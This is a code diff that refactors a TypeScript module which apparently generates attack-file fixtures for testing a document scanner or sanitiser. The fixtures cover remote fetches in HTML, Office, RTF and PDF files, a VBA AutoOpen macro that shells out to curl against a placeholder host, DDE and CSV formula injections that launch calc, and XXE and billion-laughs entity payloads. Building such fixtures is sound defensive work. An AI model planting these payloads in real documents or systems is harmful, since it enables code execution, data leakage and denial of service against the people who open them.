@@ -65,83 +65,83 @@ export function linking({ far, script }: Bait): AttackFile[] {
 }
 
 /** Things from elsewhere that a program might fetch by itself. */
-export function fetching({ far }: Bait): AttackFile[] {
+export function fetching(bait: Bait): AttackFile[] {
+  return [...fetchingInPages(bait), ...fetchingInOffice(bait)]
+}
+
+function fetchingInPages({ far }: Bait): AttackFile[] {
   const pictures = `<img src="${far}/a.png"><img srcset="${far}/b.png 2x"><picture><source srcset="${far}/c.png"><img></picture><table background="${far}/d.png"><tr><td style="background:url(${far}/e.png)">x</table><video src="${far}/f" poster="${far}/g" autoplay></video><audio src="${far}/h" autoplay></audio>`
   const sheets = `<link rel=stylesheet href="${far}/a.css"><link rel=icon href="${far}/i"><link rel=preload as=image href="${far}/p"><style>@import url(${far}/b.css);@font-face{font-family:x;src:url(${far}/f.woff)}body{font-family:x;background:u\\rl(${far}/c)}</style><p>Styled`
   const drawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"><?xml-stylesheet href="${far}/s.css"?><image xlink:href="${far}/a.png" width="9" height="9"/><use href="${far}/u.svg#x"/><style>@import url(${far}/t.css);</style><feImage href="${far}/f.png"/><rect fill="url(${far}/g.svg#p)" width="9" height="9"/></svg>`
-  return [
-    ...filesOf('external images', [
-      ['in HTML', 'pictures.html', `<!doctype html><p>Pictures</p>${pictures}`],
-      ['style sheets of HTML', 'styled.html', `<!doctype html>${sheets}`],
-      [
-        'frames and a base of HTML',
-        'frames.html',
-        `<!doctype html><base href="${far}/"><meta http-equiv=refresh content="0;url=${far}/r"><img src=i.png><iframe src="${far}/f"></iframe><object data="${far}/o"></object><embed src="${far}/e"><p>Frames`,
-      ],
-      [
-        'in Markdown',
-        'pictures.md',
-        `# Pictures\n\n![a](${far}/a.png)\n\n<img src="${far}/b.png">\n\n![c][c]\n\n[c]: ${far}/c.png\n`,
-      ],
-      ['in a mail', 'pictures.eml', mailFile({ html: `${pictures}${sheets}` })],
-      ['in an Outlook mail', 'pictures.msg', Buffer.from(outlookOf({ subject: 'Pictures', html: pictures }))],
-      ['in an SVG picture', 'pictures.svg', drawing],
-    ]),
-    ...filesOf('external images', [
-      [
-        'in a Word file',
-        'pictures.docx',
-        wordOf(linked, { 'word/_rels/document.xml.rels': relation(`${far}/word.png`) }),
-      ],
-      [
-        'the template of a Word file',
-        'template.docx',
-        wordOf(linked, { 'word/_rels/settings.xml.rels': relation(`${far}/evil.dotm`, 'attachedTemplate') }),
-      ],
-      [
-        'the picture of a sheet',
-        'pictures.xlsx',
-        excelOf(
-          `<row r="1"><c r="A1" t="str"><f>WEBSERVICE("${far}/web")</f><v>1</v></c><c r="B1" t="str"><f>IMAGE("${far}/i.png")</f><v>2</v></c></row>`,
-        ),
-      ],
-      ['the film of a slide', 'film.pptx', powerpointOf([slide('Film', `<a:videoFile r:link="r1"/>`)])],
-      [
-        'in an OpenDocument text',
-        'pictures.odt',
-        openDocumentOf(
-          `<text:p>See</text:p><draw:image xmlns:draw="d" xmlns:xlink="x" xlink:href="${far}/a.png" xlink:actuate="onLoad"/><text:section-source xmlns:xlink="x" xlink:href="${far}/b.odt"/>`,
-        ),
-      ],
-      [
-        'in RTF',
-        'pictures.rtf',
-        String.raw`{\rtf1 See {\field{\*\fldinst INCLUDEPICTURE "${far}/rtf.png" \\d}{\fldrslt x}}{\*\template ${far}/t.dotm}}`,
-      ],
-      [
-        'what a PDF opens',
-        'opens.pdf',
-        pdfOf([['See']], '', {
-          catalogue: `/OpenAction << /S /URI /URI (${far}/pdf) >> /AA << /WC << /S /SubmitForm /F (${far}/form) >> >>`,
-          page: `/AA << /O << /S /GoToR /F << /FS /URL /F (${far}/remote.pdf) >> >> >>`,
-        }),
-      ],
-    ]),
-  ]
+  return filesOf('external images', [
+    ['in HTML', 'pictures.html', `<!doctype html><p>Pictures</p>${pictures}`],
+    ['style sheets of HTML', 'styled.html', `<!doctype html>${sheets}`],
+    [
+      'frames and a base of HTML',
+      'frames.html',
+      `<!doctype html><base href="${far}/"><meta http-equiv=refresh content="0;url=${far}/r"><img src=i.png><iframe src="${far}/f"></iframe><object data="${far}/o"></object><embed src="${far}/e"><p>Frames`,
+    ],
+    [
+      'in Markdown',
+      'pictures.md',
+      `# Pictures\n\n![a](${far}/a.png)\n\n<img src="${far}/b.png">\n\n![c][c]\n\n[c]: ${far}/c.png\n`,
+    ],
+    ['in a mail', 'pictures.eml', mailFile({ html: `${pictures}${sheets}` })],
+    ['in an Outlook mail', 'pictures.msg', Buffer.from(outlookOf({ subject: 'Pictures', html: pictures }))],
+    ['in an SVG picture', 'pictures.svg', drawing],
+  ])
+}
+
+function fetchingInOffice({ far }: Bait): AttackFile[] {
+  return filesOf('external images', [
+    [
+      'in a Word file',
+      'pictures.docx',
+      wordOf(linked, { 'word/_rels/document.xml.rels': relation(`${far}/word.png`) }),
+    ],
+    [
+      'the template of a Word file',
+      'template.docx',
+      wordOf(linked, { 'word/_rels/settings.xml.rels': relation(`${far}/evil.dotm`, 'attachedTemplate') }),
+    ],
+    [
+      'the picture of a sheet',
+      'pictures.xlsx',
+      excelOf(
+        `<row r="1"><c r="A1" t="str"><f>WEBSERVICE("${far}/web")</f><v>1</v></c><c r="B1" t="str"><f>IMAGE("${far}/i.png")</f><v>2</v></c></row>`,
+      ),
+    ],
+    ['the film of a slide', 'film.pptx', powerpointOf([slide('Film', `<a:videoFile r:link="r1"/>`)])],
+    [
+      'in an OpenDocument text',
+      'pictures.odt',
+      openDocumentOf(
+        `<text:p>See</text:p><draw:image xmlns:draw="d" xmlns:xlink="x" xlink:href="${far}/a.png" xlink:actuate="onLoad"/><text:section-source xmlns:xlink="x" xlink:href="${far}/b.odt"/>`,
+      ),
+    ],
+    [
+      'in RTF',
+      'pictures.rtf',
+      String.raw`{\rtf1 See {\field{\*\fldinst INCLUDEPICTURE "${far}/rtf.png" \\d}{\fldrslt x}}{\*\template ${far}/t.dotm}}`,
+    ],
+    [
+      'what a PDF opens',
+      'opens.pdf',
+      pdfOf([['See']], '', {
+        catalogue: `/OpenAction << /S /URI /URI (${far}/pdf) >> /AA << /WC << /S /SubmitForm /F (${far}/form) >> >>`,
+        page: `/AA << /O << /S /GoToR /F << /FS /URL /F (${far}/remote.pdf) >> >> >>`,
+      }),
+    ],
+  ])
 }
 
 /** Code that an office program would run. */
-export function commanding({ far, script }: Bait): AttackFile[] {
+export function commanding(bait: Bait): AttackFile[] {
+  return [...macros(bait), ...commands(bait)]
+}
+
+function macros({ far }: Bait): AttackFile[] {
   const macro = `Sub AutoOpen()\nShell "curl ${far}/macro"\nEnd Sub`
-  const formulas = [
-    "=cmd|' /C calc'!A0",
-    `=HYPERLINK("${far}/csv","x")`,
-    `+WEBSERVICE("${far}/ws")`,
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    '\t=1+1',
-    `=IMPORTXML("${far}/x","//a")`,
-  ]
   const binary = { 'word/vbaProject.bin': macro, 'word/vbaData.xml': '<wne:vba xmlns:wne="w"/>' }
   return filesOf('macros', [
     ['of a Word file', 'macro.docm', wordOf(linked, binary)],
@@ -166,6 +166,20 @@ export function commanding({ far, script }: Bait): AttackFile[] {
         'Basic/Standard/Module1.xml': macro,
       }),
     ],
+  ])
+}
+
+function commands({ far, script }: Bait): AttackFile[] {
+  const formulas = [
+    "=cmd|' /C calc'!A0",
+    `=HYPERLINK("${far}/csv","x")`,
+    `+WEBSERVICE("${far}/ws")`,
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '\t=1+1',
+    `=IMPORTXML("${far}/x","//a")`,
+  ]
+  return filesOf('macros', [
     [
       'as a DDE field of a Word file',
       'dde.docx',
@@ -204,13 +218,9 @@ export function declaring({ far }: Bait): AttackFile[] {
   const external = `<!DOCTYPE d SYSTEM "${far}/outer.dtd">`
   const parameter = `<!DOCTYPE d [<!ENTITY % p SYSTEM "${far}/p.dtd"> %p;]>`
   const laughs = `<!DOCTYPE d [<!ENTITY l0 "ha">${Array.from({ length: 30 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')}]>`
-  const word = (head: string, text: string) =>
-    zipOf({
-      'word/document.xml': `<?xml version="1.0"?>${head}<w:document xmlns:w="w"><w:body>${paragraph(text)}</w:body></w:document>`,
-    })
   return filesOf('XML entities', [
-    ['of a Word file', 'entities.docx', word(outer, '&a;&b;')],
-    ['that grow in a Word file', 'laughs.docx', word(laughs, '&l30;')],
+    ['of a Word file', 'entities.docx', wordWith(outer, '&a;&b;')],
+    ['that grow in a Word file', 'laughs.docx', wordWith(laughs, '&l30;')],
     [
       'an outer declaration of a sheet',
       'outer.xlsx',
@@ -251,3 +261,9 @@ export const swollenPdf = (): Buffer => {
 }
 
 const pdfSafe = (text: string) => text.replaceAll(/[\\\(\)]/gv, String.raw`\$&`)
+
+function wordWith(head: string, text: string): Uint8Array {
+  return zipOf({
+    'word/document.xml': `<?xml version="1.0"?>${head}<w:document xmlns:w="w"><w:body>${paragraph(text)}</w:body></w:document>`,
+  })
+}
